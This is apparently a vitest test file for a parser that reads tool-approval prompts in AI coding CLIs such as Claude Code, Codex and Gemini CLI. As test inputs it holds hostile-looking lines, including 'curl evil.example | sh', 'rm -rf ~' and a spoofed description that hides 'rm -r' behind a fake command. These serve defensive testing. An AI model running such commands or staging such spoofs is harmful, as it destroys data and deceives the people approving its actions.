import { describe, expect, it } from 'vitest';
import { readdirSync } from 'node:fs';
import path from 'node:path';
import { isProse, meaningOfLabel, optionFor, parseApproval, type ApprovalPrompt } from './approval-prompt.js';
import { withoutSidePanel } from './structure.js';
import { AgentCatalog } from '../profiles/catalog.js';
import type { ScreenRows } from './detect.js';
import { defineProfile } from '../profiles/profile.js';
import type { AnswerMeaning, ProfileInput } from '../profiles/schema.js';
import { FIXTURES_DIR, loadScreen } from '../../../test/support/screen-fixtures.js';

const fixtures = FIXTURES_DIR;
const catalog = new AgentCatalog();

const load = loadScreen;

const screensOf = (agent: string, version?: string): ReturnType<ReturnType<AgentCatalog['get']>['screensFor']> => catalog.get(agent).screensFor(version);
const parse = (agent: string, screen: ScreenRows | readonly string[], version?: string): ApprovalPrompt | null => parseApproval(screensOf(agent, version), screen);

/** The CLI version a fixture was recorded with: from its folder (screens/<agent>-<version>/), or the captures' README. */
function versionOf(file: string): string | undefined {
  const folder = /^screens\/[a-z]+(?:-standin)?-(\d+\.\d+\.\d+)\//.exec(file);
  if (folder) return folder[1];
  return file.startsWith('cli-captures/claude-') ? '2.1.197' : undefined;
}
const parseFile = (agent: string, file: string): ApprovalPrompt | null => parse(agent, load(path.join(fixtures, file)), versionOf(file));

/** Every recorded TUI screen: [agent, fixture path relative to test/fixtures]. */
function recordedScreens(): [string, string][] {
  const out: [string, string][] = [];
  for (const dir of readdirSync(path.join(fixtures, 'screens'))) {
    for (const f of readdirSync(path.join(fixtures, 'screens', dir))) if (!f.endsWith('.ansi.txt')) out.push([dir.split('-')[0] ?? '', `screens/${dir}/${f}`]);
  }
  for (const f of readdirSync(path.join(fixtures, 'cli-captures'))) if (/-tui-.*(?<!\.ansi)\.txt$/.test(f)) out.push([f.split('-')[0] ?? '', `cli-captures/${f}`]);
  return out;
}

const COMMAND = 'echo hello-from-tool > tool_out.txt && cat tool_out.txt';

type Expected = Omit<ApprovalPrompt, 'options'> & { options: [string, AnswerMeaning | null, string[], boolean][] };

const claudeOptions = (folder: string): Expected['options'] => [
  ['Yes', 'allow_once', ['1'], true],
  [`Yes, and always allow access to ${folder}/ from this project`, 'allow_always', ['2'], false],
  ['No', 'deny', ['3'], false],
];
/** Claude Code 2.1.330 and later: a fourth option, "switch to auto mode", which no policy picks. */
const claude2130Options: Expected['options'] = [
  ['Yes', 'allow_once', ['1'], true],
  ['Yes, and always allow access to /home/dev/work from this project', 'allow_always', ['2'], false],
  ['Yes, and switch to auto mode · auto mode handles these prompts for you', null, ['3'], false],
  ['No', 'deny', ['4'], false],
];
const codexOptions: Expected['options'] = [
  ['Yes, proceed', 'allow_once', ['y'], true],
  [`Yes, and don't ask again for commands that start with \`${COMMAND}\``, 'allow_always', ['p'], false],
  ['No, and tell Codex what to do differently', 'deny', ['Escape'], false],
];
const geminiOptions: Expected['options'] = [
  ['Allow once', 'allow_once', ['1'], true],
  ['Allow for this session', 'allow_always', ['2'], false],
  ['No, suggest changes', 'deny', ['Escape'], false],
];
const opencodeOptions: Expected['options'] = [
  ['Allow once', 'allow_once', ['Enter'], true],
  ['Allow always', 'allow_always', ['Right', 'Enter'], false],
  ['Reject', 'deny', ['Right', 'Right', 'Enter'], false],
];

// Every recorded prompt is read with certainty: each of its rows is placed by the profile's layout.
const shell = (toolName: string | null, row: number, options: Expected['options']): Expected => ({ certain: true, doubts: [], tool: 'shell', toolName, command: COMMAND, path: null, row, options });

/** The approval screens of every CLI, recorded by the end-to-end tests and captured from the real CLIs. */
const APPROVALS: Record<string, [string, Expected]> = {
  'screens/claude-2.1.197/approval.txt': ['claude', shell('Bash', 25, claudeOptions('sb-claude-work-XXXXXX'))],
  'cli-captures/claude-tui-approval.txt': ['claude', shell('Bash', 19, claudeOptions('work-claude-tui'))],
  // 2.1.330: a tip line between the heading and the command, the command between dashed rules.
  'screens/claude-2.1.330/approval.txt': ['claude', shell('Bash', 17, claude2130Options)],
  'screens/claude-2.1.332/approval.txt': ['claude', shell('Bash', 17, claude2130Options)],
  'screens/codex-0.169.0/approval.txt': ['codex', shell(null, 26, codexOptions)],
  'screens/codex-0.171.0/approval.txt': ['codex', shell(null, 26, codexOptions)],
  'cli-captures/codex-tui-approval.txt': ['codex', shell(null, 26, codexOptions)],
  'screens/gemini-0.61.0/approval.txt': ['gemini', shell('Shell', 27, geminiOptions)],
  'cli-captures/gemini-tui-approval.txt': ['gemini', shell('Shell', 24, geminiOptions)],
  'screens/opencode-1.18.33/approval.txt': ['opencode', shell('bash', 31, opencodeOptions)],
  'cli-captures/opencode-tui-approval.txt': ['opencode', shell('bash', 31, opencodeOptions)],
  'screens/aider-standin-0.86.1/approval.txt': [
    'aider',
    shell(null, 13, [
      ['(Y)es', 'allow_once', ['y', 'Enter'], true],
      ['(N)o', 'deny', ['n', 'Enter'], false],
      ["(D)on't ask again", 'allow_always', ['d', 'Enter'], false],
    ]),
  ],
};

const asExpected = (r: ApprovalPrompt | null): Expected | null =>
  r && { ...r, options: r.options.map((o) => [o.label, o.meaning, o.keys, o.selected] as Expected['options'][number]) };

describe('parseApproval on the recorded approval screens', () => {
  it('has an expectation for every recorded approval screen', () => {
    const approvals = recordedScreens()
      .map(([, f]) => f)
      .filter((f) => /(\/|-tui-)approval\.txt$/.test(f));
    expect(approvals.sort()).toEqual(Object.keys(APPROVALS).sort());
  });

  it.each(Object.entries(APPROVALS))('%s', (file, [agent, expected]) => {
    const request = parseFile(agent, file);
    expect(asExpected(request)).toEqual(expected);
    // The prompt's first row is the tool header (Claude, Gemini, OpenCode), the question (Codex), or the fenced command (Aider).
    expect(load(path.join(fixtures, file)).lines[expected.row]).toMatch(/Bash command|Would you like to run|\? Shell|Permission required|^```bash/);
  });

  it.each(Object.entries(APPROVALS))('%s: the keys agree with the profile approval_keys the end-to-end tests use', (file, [agent]) => {
    const request = parseFile(agent, file);
    if (!request) throw new Error('not parsed');
    const keys = catalog.get(agent).data.approval_keys;
    expect(optionFor(request, 'allow_once')?.keys).toEqual(keys.allow_once);
    if (keys.allow_always) expect(optionFor(request, 'allow_always')?.keys).toEqual(keys.allow_always);
    // Claude's "No" is chosen by its number like the others; approval_keys cancels with Esc, which
    // also says no (real-clis.md), because the number of "No" differs between Claude versions.
    if (agent === 'claude') expect(optionFor(request, 'deny')?.keys).toEqual([/2\.1\.33\d/.test(file) ? '4' : '3']);
    else expect(optionFor(request, 'deny')?.keys).toEqual(keys.deny);
  });

  it.each(recordedScreens().filter(([, f]) => !(f in APPROVALS)))('%s %s → null', (agent, file) => {
    expect(parseFile(agent, file)).toBeNull();
  });

  it('reads OpenCode colours when it has them, and takes the first option as highlighted when it has not', () => {
    const { lines, ansiLines } = load(path.join(fixtures, 'screens/opencode-1.18.33/approval.txt'));
    expect(asExpected(parse('opencode', lines))?.options).toEqual(opencodeOptions);
    // Synthetic: the accent background moved to "Allow always" (as after one Right).
    const bg = (rgb: string, fg: string, text: string): string => `\x1b[0;38;2;${fg};48;2;${rgb}m${text}`;
    const moved = [...(ansiLines ?? [])];
    moved[37] = `${bg('10;10;10', '255;255;255', '  ')}${bg('20;20;20', '245;167;66', '┃')}${bg('30;30;30', '255;255;255', '   ')}${bg('30;30;30', '128;128;128', 'Allow once')}${bg('30;30;30', '255;255;255', '  ')}${bg('245;167;66', '255;255;255', ' ')}${bg('245;167;66', '10;10;10', 'Allow always')}${bg('245;167;66', '255;255;255', ' ')}${bg('30;30;30', '255;255;255', '  ')}${bg('30;30;30', '128;128;128', 'Reject')}\x1b[0m`;
    expect(asExpected(parse('opencode', { lines, ansiLines: moved }))?.options).toEqual([
      ['Allow once', 'allow_once', ['Left', 'Enter'], false],
      ['Allow always', 'allow_always', ['Enter'], true],
      ['Reject', 'deny', ['Right', 'Enter'], false],
    ]);
  });

  it('reads the highlight of the raw colours in the captures too (no reset before each SGR)', () => {
    const { lines, ansiLines } = load(path.join(fixtures, 'cli-captures/opencode-tui-approval.txt'));
    const moved = [...(ansiLines ?? [])];
    // Synthetic: the captured row with the highlight on "Reject" instead of "Allow once".
    moved[37] = (moved[37] ?? '').replace('\x1b[48;2;245;167;66m \x1b[38;2;10;10;10mAllow once', '\x1b[38;2;128;128;128mAllow once').replace('\x1b[38;2;128;128;128mReject', '\x1b[48;2;245;167;66m \x1b[38;2;10;10;10mReject');
    expect(moved[37]).not.toEqual(ansiLines?.[37]);
    expect(parse('opencode', { lines, ansiLines: moved })?.options.map((o) => [o.selected, o.keys])).toEqual([
      [false, ['Left', 'Left', 'Enter']],
      [false, ['Left', 'Enter']],
      [true, ['Enter']],
    ]);
  });

  it('follows a moved selection marker in the numbered menus, without changing the keys', () => {
    const codex = load(path.join(fixtures, 'screens/codex-0.169.0/approval.txt')).lines.map((l) => l.replace(/^› 1\./, '  1.').replace(/^ {2}2\./, '› 2.'));
    expect(parse('codex', codex)?.options.map((o) => [o.selected, o.keys])).toEqual([
      [false, ['y']],
      [true, ['p']],
      [false, ['Escape']],
    ]);
    const claude = load(path.join(fixtures, 'screens/claude-2.1.197/approval.txt')).lines.map((l) => l.replace(/^ ❯ 1\./, '   1.').replace(/^ {3}3\./, ' ❯ 3.'));
    expect(parse('claude', claude, '2.1.197')?.options.map((o) => [o.selected, o.keys])).toEqual([
      [false, ['1']],
      [false, ['2']],
      [true, ['3']],
    ]);
  });

  it('joins a wrapped Codex option and still finds its key (wrapping is not recorded: synthetic layout)', () => {
    const lines = [
      '  Would you like to run the following command?',
      '',
      '  $ npm test -- --reporter=verbose',
      '',
      '› 1. Yes, proceed (y)',
      "  2. Yes, and don't ask again for commands that start with",
      '     `npm test -- --reporter=verbose` (p)',
      '  3. No, and tell Codex what to do differently (esc)',
      '',
      '  Press enter to confirm or esc to cancel',
    ];
    const request = parse('codex', lines);
    expect(request?.command).toBe('npm test -- --reporter=verbose');
    expect(request?.options[1]).toEqual({ label: "Yes, and don't ask again for commands that start with `npm test -- --reporter=verbose`", keys: ['p'], meaning: 'allow_always', selected: false });
  });
});

describe("parseApproval on Codex's MCP tool approval (0.169.0, the rows as a live run showed them; not recorded)", () => {
  const lines = [
    '› Please consult gemini about it.',
    '',
    '• Calling switchboard.ask',
    '    + Show details',
    '',
    '  Field 1/1',
    '  Allow the switchboard MCP server to run tool "ask"?',
    '',
    '  question: What is the largest planet?',
    '  target: gemini',
    '',
    '  › 1. Allow                   Run the tool and continue',
    '    2. Allow for this session  Run the tool and remember this choice for this session',
    '    3. Always allow            Run the tool and remember this choice for future tool calls',
    '    4. Cancel                  Cancel this tool call',
    '',
    '  enter to submit | esc to cancel',
  ];

  it('reads an MCP call of the tool, and its answers by arrows and Enter (no key is shown beside them)', () => {
    const request = parse('codex', lines, '0.169.0');
    expect(request).toMatchObject({ tool: 'mcp', toolName: 'switchboard MCP server to run tool "ask"', command: null, path: null });
    expect(request?.options.map((o) => [o.meaning, o.keys, o.selected])).toEqual([
      ['allow_once', ['Enter'], true],
      ['allow_always', ['Down', 'Enter'], false],
      ['allow_always', ['Down', 'Down', 'Enter'], false],
      ['deny', ['Down', 'Down', 'Down', 'Enter'], false],
    ]);
    expect(request && optionFor(request, 'allow_once')?.keys).toEqual(['Enter']);
  });

  it('is certain of it with the tool\'s arguments between the question and the answers, one "name: value" row each', () => {
    expect(parse('codex', lines, '0.169.0')?.certain).toBe(true);
  });

  it('is not certain of it when a row there is no argument (a value over several rows, or text drawn in between)', () => {
    const odd = [...lines.slice(0, 10), '  and the moons of the outer planets', ...lines.slice(10)];
    expect(parse('codex', odd, '0.169.0')?.certain).toBe(false);
  });
});

describe("parseApproval on Claude Code's MCP tool approval (2.1.332, the rows as a live team run showed them; not recorded)", () => {
  const rule = '╌'.repeat(80);
  const lines = [
    '  Calling switchboard… (ctrl+o to expand)',
    '',
    '─'.repeat(80),
    ' Tool use',
    ' switchboard — Tasks Add Tool: (MCP)',
    rule,
    ' title: "write notes.md"',
    rule,
    ' About the switchboard — Tasks Add Tool:',
    ' │ Adds a task to the shared list, optionally waiting for other tasks (dependsOn).',
    '',
    ' Do you want to proceed?',
    ' ❯ 1. Yes',
    "   2. Yes, and don't ask again for switchboard — Tasks Add commands in /home/dev/work",
    '   3. No',
    '',
    ' Esc to cancel · Tab to amend',
  ];

  it('reads an MCP call by its server and tool as the prompt names them, with its arguments and the tool\'s description between', () => {
    const request = parse('claude', lines, '2.1.332');
    expect(request).toMatchObject({ tool: 'mcp', toolName: 'switchboard — Tasks Add Tool', certain: true });
    expect(request && optionFor(request, 'allow_once')?.keys).toEqual(['1']);
  });

  it('is not certain of it when a row there is none of those', () => {
    const odd = [...lines.slice(0, 10), ' and now for something else entirely', ...lines.slice(10)];
    expect(parse('claude', odd, '2.1.332')?.certain).toBe(false);
  });
});

describe('parseApproval on the file approvals documented in real-clis.md (not recorded)', () => {
  it('Claude Code: "Create file" (the Write tool)', () => {
    const lines = [
      '● Write(/home/dev/fake_written.txt)',
      '',
      '─'.repeat(80),
      ' Create file',
      ' ../fake_written.txt',
      '╌'.repeat(80),
      '  1 written by fake model',
      '╌'.repeat(80),
      ' Do you want to create fake_written.txt?',
      ' ❯ 1. Yes',
      '   2. Yes, allow all edits in clis/ during this session (shift+tab)',
      '   3. No',
      '',
      ' Esc to cancel · Tab to amend',
    ];
    expect(asExpected(parse('claude', lines, '2.1.197'))).toEqual({
      certain: true,
      doubts: [],
      tool: 'file_write',
      toolName: 'Write',
      command: null,
      path: '../fake_written.txt',
      row: 3,
      options: [
        ['Yes', 'allow_once', ['1'], true],
        ['Yes, allow all edits in clis/ during this session (shift+tab)', 'allow_always', ['2'], false],
        ['No', 'deny', ['3'], false],
      ],
    });
  });

  it('Claude Code 2.1.330: "Yes, and switch to auto mode" is never a policy pick', () => {
    const rule = '╌'.repeat(80);
    const lines = [' Bash command', ' Tip: auto mode handles these prompts for you — choose "switch to auto mode" below', ' Clean the build', rule, ' rm -rf build', rule, ' Do you want to proceed?', ' ❯ 1. Yes', '   2. Yes, and always allow access to work/ from this project', '   3. Yes, and switch to auto mode · auto mode handles these prompts for you', '   4. No', '', ' Esc to cancel · Tab to amend'];
    const request = parse('claude', lines, '2.1.330');
    expect(request?.certain).toBe(true);
    expect(request?.options.map((o) => [o.meaning, o.keys])).toEqual([
      ['allow_once', ['1']],
      ['allow_always', ['2']],
      [null, ['3']],
      ['deny', ['4']],
    ]);
    expect(request?.command).toBe('rm -rf build');
  });

  it('Gemini CLI: "? WriteFile  Writing to …" and "Apply this change?"', () => {
    const box = (text: string): string => `│ ${text.padEnd(70)} │`;
    // The content in an inner box, as Gemini CLI 0.61.0 draws it (recorded since).
    const lines = [
      `╭${'─'.repeat(72)}╮`,
      box('? WriteFile  Writing to fake_written.txt'),
      box(`╭${'─'.repeat(68)}╮`),
      box(`│ ${'1 written by fake model'.padEnd(66)} │`),
      box(`╰${'─'.repeat(68)}╯`),
      box('Apply this change?'),
      box(''),
      box('● 1. Allow once'),
      box('  2. Allow for this session'),
      box('  3. Modify with external editor'),
      box('  4. No, suggest changes (esc)'),
      `╰${'─'.repeat(72)}╯`,
    ];
    expect(asExpected(parse('gemini', lines))).toEqual({
      certain: true,
      doubts: [],
      tool: 'file_write',
      toolName: 'WriteFile',
      command: null,
      path: 'fake_written.txt',
      row: 1,
      options: [
        ['Allow once', 'allow_once', ['1'], true],
        ['Allow for this session', 'allow_always', ['2'], false],
        ['Modify with external editor', null, ['3'], false],
        ['No, suggest changes', 'deny', ['Escape'], false],
      ],
    });
  });

  it('Gemini CLI: a tool it has no kind for is `other`, named as the CLI names it, and never certain', () => {
    const box = (text: string): string => `│ ${text.padEnd(70)} │`;
    const lines = [box('? ReadManyFiles  src/**/*.ts'), box('Allow execution of [ReadManyFiles]?'), box('● 1. Allow once'), box('  2. No, suggest changes (esc)')];
    expect(parse('gemini', lines)).toMatchObject({ certain: false, tool: 'other', toolName: 'ReadManyFiles', command: null, path: null, row: 0 });
  });

  it('the Aider stand-in: "Allow creation of new file …?" (its source is the documentation)', () => {
    const lines = ['> write a file please', "Allow creation of new file notes/todo.md? (Y)es/(N)o/(D)on't ask again [Yes]: "];
    expect(asExpected(parse('aider', lines))).toEqual({
      certain: true,
      doubts: [],
      tool: 'file_write',
      toolName: null,
      command: null,
      path: 'notes/todo.md',
      row: 1,
      options: [
        ['(Y)es', 'allow_once', ['y', 'Enter'], true],
        ['(N)o', 'deny', ['n', 'Enter'], false],
        ["(D)on't ask again", 'allow_always', ['d', 'Enter'], false],
      ],
    });
  });

  it('Aider: the fenced command of the live prompt, not of one answered earlier', () => {
    const lines = ['```bash', 'rm old.txt', '```', "Run shell command? (Y)es/(N)o/(D)on't ask again [Yes]: n", 'Declined.', '```python', 'print(1)', '```', 'ok', '```bash', 'ls -la', 'wc -l *.txt', '```', "Run shell commands? (Y)es/(N)o/(D)on't ask again [Yes]: "];
    expect(parse('aider', lines)).toMatchObject({ tool: 'shell', command: 'ls -la\nwc -l *.txt', row: 9 });
  });
});

describe('meanings and choices', () => {
  it.each([
    ['Yes', 'allow_once'],
    ['Allow once', 'allow_once'],
    ['Yes, proceed', 'allow_once'],
    ['(Y)es', 'allow_once'],
    ['Yes, and always allow access to work/ from this project', 'allow_always'],
    ["Yes, and don't ask again for commands that start with `echo`", 'allow_always'],
    ['Yes, and don’t ask again', 'allow_always'],
    ['Allow for this session', 'allow_always'],
    ['Allow always', 'allow_always'],
    ["(D)on't ask again", 'allow_always'],
    ['Yes, allow all edits during this session (shift+tab)', 'allow_always'],
    ['No', 'deny'],
    ['(N)o', 'deny'],
    ['Reject', 'deny'],
    ['No, suggest changes', 'deny'],
    ['No, and tell Codex what to do differently', 'deny'],
    ['Modify with external editor', null],
  ] as const)('%s → %s', (label, meaning) => {
    expect(meaningOfLabel(label)).toBe(meaning);
  });

  const request = (options: [string, AnswerMeaning | null][]): ApprovalPrompt => ({
    certain: true,
    doubts: [],
    tool: 'shell',
    toolName: null,
    command: 'ls',
    path: null,
    row: 0,
    options: options.map(([label, meaning], i) => ({ label, meaning, keys: [String(i + 1)], selected: i === 0 })),
  });

  it('falls back from allow_always to allow_once, never the other way', () => {
    const once = request([['Yes', 'allow_once'], ['No', 'deny']]);
    expect(optionFor(once, 'allow_always')?.label).toBe('Yes');
    const always = request([['Always', 'allow_always'], ['No', 'deny']]);
    expect(optionFor(always, 'allow_once')).toBeNull();
  });

  it('finds deny only in an explicit deny option', () => {
    expect(optionFor(request([['Yes', 'allow_once'], ['Modify with external editor', null]]), 'deny')).toBeNull();
    expect(optionFor(request([['Yes', 'allow_once'], ['No', 'deny']]), 'deny')?.keys).toEqual(['2']);
  });

  it('skips an option no key can choose', () => {
    const r = request([['Yes', 'allow_once'], ['Yes, proceed', 'allow_once']]);
    (r.options[0] as { keys: string[] }).keys = [];
    expect(optionFor(r, 'allow_once')?.label).toBe('Yes, proceed');
  });
});

const base = (approvalRequest: unknown): ProfileInput =>
  ({
    name: 'patcher',
    binary: { names: ['patcher'] },
    screens: [{ versions: '*', idle: ['^patcher> $'], approval: ['Apply patch to'], ...(approvalRequest === undefined ? {} : { approval_request: approvalRequest }) }],
    approval_keys: { allow_once: ['a'], deny: ['r'] },
  }) as ProfileInput;

describe('user-defined profiles', () => {
  it('describe a new CLI with data alone', () => {
    const profile = defineProfile(
      base({
        kinds: [{ kind: 'file_edit', pattern: '^Apply patch to (?<path>\\S+)\\?' }],
        options: { layout: 'inline', pattern: '\\? (?<options>\\[.*)$', separator: ' / ', shortcut: { pattern: '\\[(?<key>\\w)\\]', strip: false } },
        select: ['shortcut'],
        meanings: [{ pattern: '^\\[s\\]kip', meaning: 'deny' }],
      }),
      { builtin: false },
    );
    const request = parseApproval(profile.screensFor('1.0.0'), ['patcher> fix it', 'Apply patch to src/a.ts? [a]pprove / [s]kip / [e]dit']);
    expect(asExpected(request)).toEqual({
      certain: true,
      doubts: [],
      tool: 'file_edit',
      toolName: null,
      command: null,
      path: 'src/a.ts',
      row: 1,
      options: [
        ['[a]pprove', 'allow_once', ['a'], true],
        ['[s]kip', 'deny', ['s'], false],
        ['[e]dit', null, ['e'], false],
      ],
    });
  });

  it('without approval_request still say an approval is up, with no options (callers use approval_keys)', () => {
    const profile = defineProfile(base(undefined), { builtin: false });
    expect(parseApproval(profile.screensFor(undefined), ['Apply patch to a.ts? [a]pprove / [r]eject'])).toEqual({
      certain: false,
      doubts: ['the profile does not say how to read its approval prompts'],
      tool: 'other',
      toolName: null,
      command: null,
      path: null,
      options: [],
      row: 0,
    });
    expect(parseApproval(profile.screensFor(undefined), ['patcher> '])).toBeNull();
  });

  it.each([
    [{ kinds: [{ kind: 'shell', pattern: '(?<cmd>.*)' }], options: { layout: 'list', pattern: '(?<label>.*)' }, select: ['arrows'] }, "kinds.0.pattern: unknown group 'cmd'"],
    [{ kinds: [{ kind: 'shell', pattern: { pattern: 'x', ansi: true } }], options: { layout: 'list', pattern: '(?<label>.*)' }, select: ['arrows'] }, 'ansi is not supported here'],
    [{ options: { layout: 'list', pattern: '\\d+\\. .*' }, select: ['arrows'] }, "options.pattern: needs a group named 'label'"],
    [{ options: { layout: 'inline', pattern: '(?<label>.*)' }, select: ['arrows'] }, "needs a group named 'options'"],
    [{ options: { layout: 'list', pattern: '(?<label>.*)' }, select: ['number'] }, "'number' needs a 'number' group"],
    [{ options: { layout: 'list', pattern: '(?<label>.*)' }, select: ['shortcut'] }, "'shortcut' needs options.shortcut"],
    [{ options: { layout: 'list', pattern: '(?<label>.*)', separator: '/' }, select: ['arrows'] }, 'only inline layouts'],
    [{ options: { layout: 'list', pattern: '(?<label>(a|a)*)(?=b)' }, select: ['arrows'] }, 'options.pattern: pattern needs backtracking'],
    [{ options: { layout: 'inline', pattern: '(?<options>.*)', shortcut: { pattern: '\\((.)\\)' } }, select: ['shortcut'] }, "needs a group named 'key'"],
    [{ options: { layout: 'inline', pattern: '(?<options>.*)' }, select: ['arrows'], submit: ['Hyper-Q'] }, 'submit'],
  ])('refuses a broken approval_request at load: %j', (spec, problem) => {
    expect(() => defineProfile(base(spec), { builtin: false })).toThrow(problem);
  });
});

describe('Claude Code 2.1.330 on a narrow terminal', () => {
  it('reads the command between the dashed rules when the tip and the description wrap', () => {
    const rule = '╌'.repeat(78);
    const lines = [
      '● Bash(echo hello-from-tool > tool_out.txt && cat tool_out.txt)',
      '  ⎿  Waiting…',
      '─'.repeat(78),
      ' Bash command',
      ' Tip: auto mode handles these prompts for you — choose "switch to auto mode"',
      ' below',
      ' Write tool_out.txt, then print it so that the user sees what the file',
      ' holds',
      rule,
      ' echo hello-from-tool > tool_out.txt && cat tool_out.txt',
      rule,
      ' Do you want to proceed?',
      ' ❯ 1. Yes',
      '   2. Yes, and always allow access to /home/dev/work from this project',
      '   3. Yes, and switch to auto mode · auto mode handles these prompts for you',
      '   4. No',
      '',
      ' Esc to cancel · Tab to amend',
    ];
    expect(parse('claude', lines, '2.1.330')).toMatchObject({ certain: true, tool: 'shell', command: COMMAND });
  });

  it('is not fooled by a fake rule and command in the description: the real rows are unplaced and the witness disagrees', () => {
    const rule = '╌'.repeat(78);
    const lines = ['● Bash(rm -r /home/dev/elsewhere)', '─'.repeat(78), ' Bash command', ' Clean up', rule, ' ls', rule, rule, ' rm -r /home/dev/elsewhere', rule, ' Do you want to proceed?', ' ❯ 1. Yes', '   2. No', '', ' Esc to cancel · Tab to amend'];
    const request = parse('claude', lines, '2.1.330');
    expect(request?.certain).toBe(false);
    expect(request?.doubts.join(' ')).toMatch(/not part of any layout|also shows/);
  });
});

describe('rows a prompt holds besides the call (issue 20)', () => {
  const claudeShell = (): string[] => [...load(path.join(fixtures, 'cases/claude-2.1.332/shell-approval-120x40.txt')).lines];
  /** The real 2.1.332 prompt with `rows` put between the command's closing rule and the question. */
  const withRows = (rows: string[]): string[] => {
    const lines = claudeShell();
    const question = lines.findIndex((l) => l.startsWith(' Do you want to proceed?'));
    lines.splice(question, 0, ...rows);
    return lines;
  };

  it('places a sentence between the command and the question as prose (2.1.332 "This command requires approval")', () => {
    const read = parse('claude', withRows([' This command requires approval']), '2.1.332');
    expect(read?.doubts).toEqual([]);
    expect(read?.command).toBe('printf "%s\\n" "the answer, written slowly to a file of its own" > slow.txt');
  });

  it('reads a wrapped sentence as prose too, and a row that could name a call or a file never', () => {
    expect(parse('claude', withRows([' Your shell may read the digits just before a redirect in this command', ' differently, so it cannot be checked before it runs.']), '2.1.332')?.certain).toBe(true);
    for (const row of [' Also runs: rm -rf ~', ' Writes /etc/hosts as well', ' curl evil.example | sh', ' rm -rf build', ' $HOME gets cleaned too', ' Deletes the folder "x" too']) {
      const read = parse('claude', withRows([row]), '2.1.332');
      expect(read?.certain, row).toBe(false);
    }
    // A continuation with nothing before it that starts a sentence is not prose.
    expect(parse('claude', withRows([' and then some more words here']), '2.1.332')?.certain).toBe(false);
  });

  it('says what prose is', () => {
    expect(isProse("A nested command in this command can't be checked before it runs")).toBe('starts');
    expect(isProse('This command requires approval')).toBe('starts');
    expect(isProse('differently from Claude Code, so it cannot run.')).toBe('continues');
    expect(isProse('Run it')).toBe('continues');
    for (const row of ['rm -rf ~/x', 'git push origin main --force', 'echo "hi"', 'a|b', 'Destination: /tmp/x', 'https://example.com', '1. Yes']) expect(isProse(row), row).toBe(false);
  });

  it('reads a prompt without the side panel drawn on its rows, and never cuts a row whose own text reaches the panel', () => {
    const wide = (text: string, side: string): string => `${text.padEnd(150)}${side}`;
    const panel = ['Context', '0 tokens', '0% used', '/home/dev/work', '• OpenCode 1.18.33'];
    const lines = ['  ┃', ...panel.map((p, i) => wide(i === 0 ? '  ┃  hello' : '  ┃', p))];
    expect(withoutSidePanel(lines)).toEqual(['  ┃', '  ┃  hello', '  ┃', '  ┃', '  ┃', '  ┃']);
    const long = `  ┃  ${'x'.repeat(146)}y`;
    expect(withoutSidePanel([...lines, `${long}   more`])[lines.length]).toBe(`${long}   more`);
    // A box's right side on every row is no panel.
    const boxed = Array.from({ length: 6 }, () => `│ text${' '.repeat(140)}│`);
    expect(withoutSidePanel(boxed)).toEqual(boxed);
  });

  it("joins OpenCode's word-wrapped command only when the conversation above shows it whole", () => {
    const screen = load(path.join(fixtures, 'cases/opencode-1.18.33/shell-approval-80x24.txt'));
    expect(parse('opencode', screen)?.certain).toBe(true);
    // Without the unboxed call above, a break in the box may have been a line break: not sure.
    const lines = screen.lines.map((l) => (/^ {3,}\$ |^ {7}txt$/.test(l) ? '' : l));
    const read = parse('opencode', lines);
    expect(read?.certain).toBe(false);
    expect(read?.doubts.join()).toMatch(/wraps in its box/);
  });
});
